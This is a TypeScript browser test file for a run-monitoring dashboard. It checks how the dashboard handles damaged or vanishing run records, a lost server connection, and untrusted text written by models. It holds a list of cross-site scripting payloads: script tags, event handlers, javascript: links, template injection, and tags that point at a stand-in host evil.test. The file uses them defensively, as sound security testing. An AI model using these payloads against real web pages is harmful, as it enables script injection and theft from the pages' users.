/** The live page where something is wrong: damaged and vanishing runs, a server that is gone, and text that nobody can trust. */
import { readFileSync, rmSync, truncateSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import type { EventBody, RunEvent } from "../../src/search/events.ts";
import { browserNote, chromiumPath } from "../support/browser.ts";
import { temporaryFolder } from "../support/cli.ts";
import { startDashboard } from "../support/live-page.ts";
import { afterRounds, appendTo, renamed, rechained, stampedAfter, writeRun } from "../support/live-runs.ts";
import {
  shown,
  talked,
  drawn,
  reader,
  useShelf,
  rowOf,
  panel,
  addressOf,
  visitRun,
  untilShown,
  unfold,
} from "../support/live-shelf.ts";

useShelf();

describe.skipIf(chromiumPath === null)(`the live page in a browser${browserNote}`, () => {
  // ----- What goes wrong -----

  test("a damaged run says which line is wrong, and a run that is not there says so", async () => {
    const page = await reader.visit(addressOf(shown, "damaged"));
    await page
      .getByText(/line 5: it holds event 6 instead of event 5/)
      .first()
      .waitFor();
    reader.forgive(/404/);
    const other = await reader.visit(addressOf(shown, "no such run"));
    await other.getByText("There is no such run.").first().waitFor();
  });

  test("a record that shrinks or vanishes while it is looked at is told, and one that comes again is shown", async () => {
    const folder = temporaryFolder();
    const run = writeRun(join(folder, "meddled"), talked);
    const journal = join(run, "journal.jsonl");
    const page = await visitRun(await startDashboard(folder), "meddled");
    await untilShown(page, talked.length);
    truncateSync(journal, Math.floor(readFileSync(journal).length / 2));
    await page
      .locator("main")
      .getByText(/shorter|shrank|shrunk|cut/i)
      .first()
      .waitFor();
    writeRun(run, afterRounds(talked, 1));
    await untilShown(page, afterRounds(talked, 1).length);
    reader.forgive(/404/);
    rmSync(run, { recursive: true });
    await page
      .locator("main")
      .getByText(/gone|no longer there|vanished|no such run/i)
      .first()
      .waitFor();
  });

  test("a server that is gone is reported, and the page continues by itself when it is back", async () => {
    reader.forgive(/ERR_CONNECTION_REFUSED|ERR_INCOMPLETE_CHUNKED_ENCODING|ERR_CONNECTION_RESET|ERR_EMPTY/);
    const folder = temporaryFolder();
    const begun = afterRounds(talked, 2);
    writeRun(join(folder, "followed"), begun);
    const first = await startDashboard(folder);
    const page = await visitRun(first, "followed");
    const list = await page.context().newPage();
    await list.goto(first.origin);
    await untilShown(page, begun.length);
    await panel(page, "Cost and value").locator("svg").waitFor();
    first.process.kill("SIGKILL");
    await first.process.ended;
    await panel(page, "Status").locator("[data-part=connection][data-state=lost]").waitFor();
    const alert = list.getByText("The connection to the server is lost");
    expect(await alert.textContent()).toContain("bin/collm-nas dashboard");
    appendTo(join(folder, "followed"), talked.slice(begun.length));
    await startDashboard(folder, { port: first.port });
    await untilShown(page, talked.length);
    await panel(page, "Status").locator("[data-part=connection][data-state=open]").waitFor();
    await rowOf(list, "followed").getByText("finished").waitFor();
  });

  // ----- Text that nobody can trust -----

  test("whatever a model writes is shown as text", async () => {
    const folder = temporaryFolder();
    const all = payloads.join("\n");
    const name = `x<img src=x onerror=window.__pwned=0>`;
    const record = talked.map((event): RunEvent => {
      switch (event.type) {
        case "run-started":
          return {
            ...event,
            run: name,
            models: { navigator: payloads[0] as string, generator: payloads[1] as string },
            search: { ...event.search, task: all },
          };
        case "strategy-set":
          return { ...event, text: `${all}\n${event.round}` };
        case "chat-replied":
          return {
            ...event,
            added: event.added.map((message) => ({ ...message, content: all })),
            reply: {
              ...event.reply,
              model: payloads[2] as string,
              content: all,
              reasoning: all,
              finishReason: payloads[3] as string,
              notes: payloads,
              failures: payloads,
            },
          };
        case "round-proposed":
          return {
            ...event,
            candidates: [
              ...event.candidates,
              ...payloads.map((raw) => ({
                raw,
                verdict: {
                  kind: "unreadable" as const,
                  rejections: [{ code: "unreadable" as const, place: raw, sentence: raw }],
                },
              })),
            ],
          };
        default:
          return event;
      }
    });
    const begun = rechained(afterRounds(record, 3));
    writeRun(join(folder, name), begun);
    const more: EventBody[] = [
      { type: "reply-rejected", role: "generator", round: 3, attempt: 1, reasons: payloads },
      { type: "hint-given", round: 4, text: all },
    ];
    appendTo(join(folder, name), stampedAfter(begun, more));
    writeRun(join(folder, "other"), renamed(drawn, payloads[4] as string));
    const dashboard = await startDashboard(folder);

    const list = await reader.visit(dashboard.address);
    expect(await rowOf(list, name).textContent()).toContain(payloads[0]);
    await list.getByLabel(`Compare ${name}`).check();
    await list.getByLabel("Compare other").check();
    await list.getByRole("link", { name: "Compare 2 runs" }).click();
    await list.locator("main svg").first().waitFor();
    await expectHarmless(list);

    const page = await visitRun(dashboard, name);
    await untilShown(page, begun.length + more.length);
    await panel(page, "Strategy").getByRole("switch").uncheck();
    await unfold(page);
    const parts = ["Strategy", "Replies", "Rounds", "Event log"];
    for (const part of parts) {
      const text = ((await panel(page, part).textContent()) ?? "").replaceAll("\\", "");
      for (const payload of payloads)
        expect(text.includes(payload.replaceAll("\\", "")), `${payload} in ${part}`).toBe(true);
    }
    await expectHarmless(page);
  });
});

/** Ways into a page that trusts what it shows. */
const payloads = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=2">',
  '<svg onload="window.__pwned=3"></svg>',
  '<iframe src="javascript:parent.__pwned=4"></iframe>',
  '"><script src=https://evil.test/5.js></script>',
  "'-(window.__pwned=6)-'",
  "javascript:window.__pwned=7",
  "[click me](javascript:window.__pwned=8)",
  "</code></pre></div><img src=https://evil.test/9.png>",
  '<a href="javascript:window.__pwned=10" class="evil">click</a>',
  '<style class="evil">@import "https://evil.test/11.css";</style>',
  "<link rel=stylesheet href=https://evil.test/12.css>",
  "<body onload=window.__pwned=13>",
  '<details class="evil" open ontoggle=window.__pwned=14>x</details>',
  "<math><mtext></mtext><mglyph><style><img src=x onerror=window.__pwned=15></style></mglyph></math>",
  "${window.__pwned=16}",
  "{{constructor.constructor('window.__pwned=17')()}}",
  "<input class=evil autofocus onfocus=window.__pwned=18>",
  '<meta http-equiv=refresh content="0;url=https://evil.test/19">',
  "<form class=evil action=https://evil.test/20><button>send</button></form>",
  '<!--<img src="--><img src=x onerror=window.__pwned=21//">',
  "&lt;img src=x onerror=window.__pwned=22&gt;",
  "\\u003cscript\\u003ewindow.__pwned=23\\u003c/script\\u003e",
  "<?lit$000000000$?><!--?lit$000000000$--><template class=evil></template>",
];

/** Nothing ran, nothing was put into the page, and every link leads to a place of this page. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate<unknown>(`({
    ran: window.__pwned,
    put: document.querySelectorAll(".evil, main img, main iframe, main script, main link, main meta, main form[action], main style, math").length,
    scripts: [...document.scripts].filter(({ src }) => !src.startsWith(location.origin + "/")).length,
    links: [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((href) => !href.startsWith("#")),
    handlers: [...document.querySelectorAll("*")].filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on"))).length,
  })`);
  expect(found).toEqual({ put: 0, scripts: 0, links: [], handlers: 0 });
}
